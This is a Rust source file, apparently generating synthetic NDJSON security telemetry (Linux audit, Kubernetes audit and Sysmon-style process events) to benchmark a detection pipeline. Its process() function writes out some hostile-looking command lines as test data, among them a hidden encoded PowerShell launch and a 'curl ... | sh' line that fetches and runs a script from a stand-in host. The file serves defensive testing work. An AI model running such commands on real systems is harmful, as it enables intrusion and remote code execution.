//! The events of each shape, as NDJSON lines.

use palisade_drill::{Drill, Life, Settings, Stream, every_attack, scenarios};
use serde_json::{Value, json};

type Outcome<T> = Result<T, Box<dyn std::error::Error>>;

/// A kind of input.
pub(crate) struct Shape {
    pub(crate) name: &'static str,
    /// How many times the peer's rate is asked for.
    pub(crate) asked: f64,
    pub(crate) lines: Vec<String>,
}

impl Shape {
    /// Events a second, when all lines take so many seconds.
    pub(crate) fn rate(&self, secs: f64) -> f64 {
        self.lines.len() as f64 / secs
    }

    /// How many lines are no copy of another.
    pub(crate) fn distinct(&self) -> usize {
        self.lines.iter().collect::<std::collections::BTreeSet<_>>().len()
    }
}

/// All shapes, so many lines each.
pub(crate) fn all(count: usize) -> Outcome<Vec<Shape>> {
    Ok(vec![
        Shape { name: "drill telemetry", asked: 10.0, lines: telemetry(count)? },
        Shape { name: "kubernetes audit", asked: 10.0, lines: audit(count)? },
        Shape { name: "small linux audit", asked: 10.0, lines: (0..count).map(small).collect() },
        Shape { name: "distinct commands", asked: 5.0, lines: (0..count).map(process).collect() },
    ])
}

/// All streams of a cluster that are JSON, as they mix in hard life with every attack in it.
fn telemetry(count: usize) -> Outcome<Vec<String>> {
    let streams: Vec<Stream> = Stream::ALL.into_iter().filter(|stream| *stream != Stream::Auditd).collect();
    let settings =
        Settings { streams, life: Life::Hard, events_per_sec: 50.0, duration_secs: 3_600, ..Settings::default() };
    let attacks = every_attack(&scenarios()?, settings.start, settings.duration_secs);
    let drill = Drill::new(Settings { attacks, ..settings })?;
    drill.take(count).map(|record| Ok(String::from_utf8(record.payload)?)).collect()
}

fn audit(count: usize) -> Outcome<Vec<String>> {
    let records = palisade_drill::audit_corpus(7, count);
    records.into_iter().map(|record| Ok(String::from_utf8(record)?)).collect()
}

/// Spreads numbers, so that neighbours have little in common.
fn mixed(n: usize) -> u64 {
    let mut x = (n as u64).wrapping_add(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

fn one<'a>(of: &[&'a str], n: u64) -> &'a str {
    of[(n % of.len() as u64) as usize]
}

/// Records of Linux audit as shippers flatten them: system calls, programs started, paths, logins.
fn small(n: usize) -> String {
    let r = mixed(n);
    let exe = one(
        &["/usr/bin/cat", "/usr/sbin/sshd", "/usr/bin/sudo", "/usr/sbin/cron", "/bin/bash", "/usr/bin/curl"],
        r >> 8,
    );
    let event: Value = match r % 5 {
        0 => json!({
            "type": "EXECVE", "argc": 3, "a0": one(&["cat", "ls", "grep", "systemctl", "chmod", "find"], r >> 16),
            "a1": one(&["-l", "-r", "status", "+x", "/etc"], r >> 24), "a2": format!("/var/lib/app/{:x}", r >> 40),
            "host": format!("node-{}", r % 40),
        }),
        1 | 2 => json!({
            "type": "SYSCALL", "arch": "c000003e", "syscall": one(&["openat", "connect", "execve", "unlink"], r >> 16),
            "success": one(&["yes", "yes", "yes", "no"], r >> 20), "exit": (r >> 30) % 64, "ppid": (r >> 12) % 32_768,
            "pid": (r >> 28) % 32_768, "auid": 1000 + r % 9, "uid": r % 3 * 1000, "comm": exe.rsplit('/').next(), "exe": exe,
            "key": one(&["network", "files", "exec"], r >> 50),
        }),
        3 => json!({
            "type": "PATH", "item": 0, "name": format!("/home/user{}/.cache/{:x}", r % 90, r >> 44), "inode": r >> 42,
            "mode": "0100644", "nametype": one(&["NORMAL", "CREATE", "DELETE", "PARENT"], r >> 18),
        }),
        _ => json!({
            "type": "USER_AUTH", "pid": (r >> 28) % 32_768, "uid": 0, "acct": format!("user{}", r % 200),
            "exe": exe, "hostname": format!("10.2.{}.{}", (r >> 8) % 256, (r >> 16) % 256), "terminal": "ssh",
            "res": one(&["success", "failed"], r >> 33),
        }),
    };
    event.to_string()
}

/// Programs started on Windows and Linux, no two command lines alike, one in fifty with what rules ask for.
fn process(n: usize) -> String {
    let r = mixed(n);
    const IMAGES: [&str; 12] = [
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\cmd.exe",
        r"C:\Program Files\Git\bin\git.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"C:\Windows\System32\conhost.exe",
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        r"C:\Windows\System32\msiexec.exe",
        "/usr/bin/python3",
        "/usr/bin/java",
        "/bin/sh",
        "/usr/sbin/nginx",
        "/usr/bin/node",
    ];
    let image = one(&IMAGES, r >> 5);
    let guid = format!("{{{:08x}-{:04x}-{:04x}-{:012x}}}", r as u32, (r >> 32) as u16, n as u16, mixed(n + 1) >> 16);
    let rest = match r % 50 {
        0 => format!("-nop -w hidden -EncodedCommand {:x}{:x}", r, mixed(n + 2)),
        1 => format!("/c whoami /all > C:\\Users\\Public\\{:x}.txt", r >> 20),
        2 => format!("-c curl -s http://203.0.113.{}/{:x}.sh | sh", r % 250, r >> 30),
        3..20 => format!(
            "--type=renderer --id={} --handle={:x} --lang=en-GB --cache \"D:\\cache\\{:x}\"",
            n,
            r >> 12,
            r >> 33
        ),
        20..35 => format!("-k netsvcs -p -s Service{:x} --session {guid} --verbose", r >> 40),
        _ => format!("run --config /etc/app/{:x}.yml --port {} --worker {n} --token {:x}", r >> 38, r % 60_000, r),
    };
    json!({
        "EventID": 1, "Image": image, "CommandLine": format!("{image} {rest}"), "OriginalFileName": image.rsplit(['\\', '/']).next(),
        "CurrentDirectory": one(&[r"C:\Windows\system32\", r"C:\Users\a\", "/", "/srv/app"], r >> 9),
        "User": one(&[r"NT AUTHORITY\SYSTEM", r"CORP\alice", r"CORP\bob", "root", "app"], r >> 13),
        "ParentImage": one(&IMAGES, r >> 21), "ParentCommandLine": format!("{} {:x}", one(&IMAGES, r >> 21), r >> 25),
        "IntegrityLevel": one(&["System", "Medium", "High"], r >> 29), "Company": "Example", "Product": "Example",
        "Description": "An example", "LogonId": format!("0x{:x}", r >> 41), "ProcessGuid": guid, "ProcessId": r % 65_536,
        "Hashes": format!("SHA256={:016X}{:016X}{:016X}{:016X}", r, mixed(n + 3), mixed(n + 4), mixed(n + 5)),
    }).to_string()
}
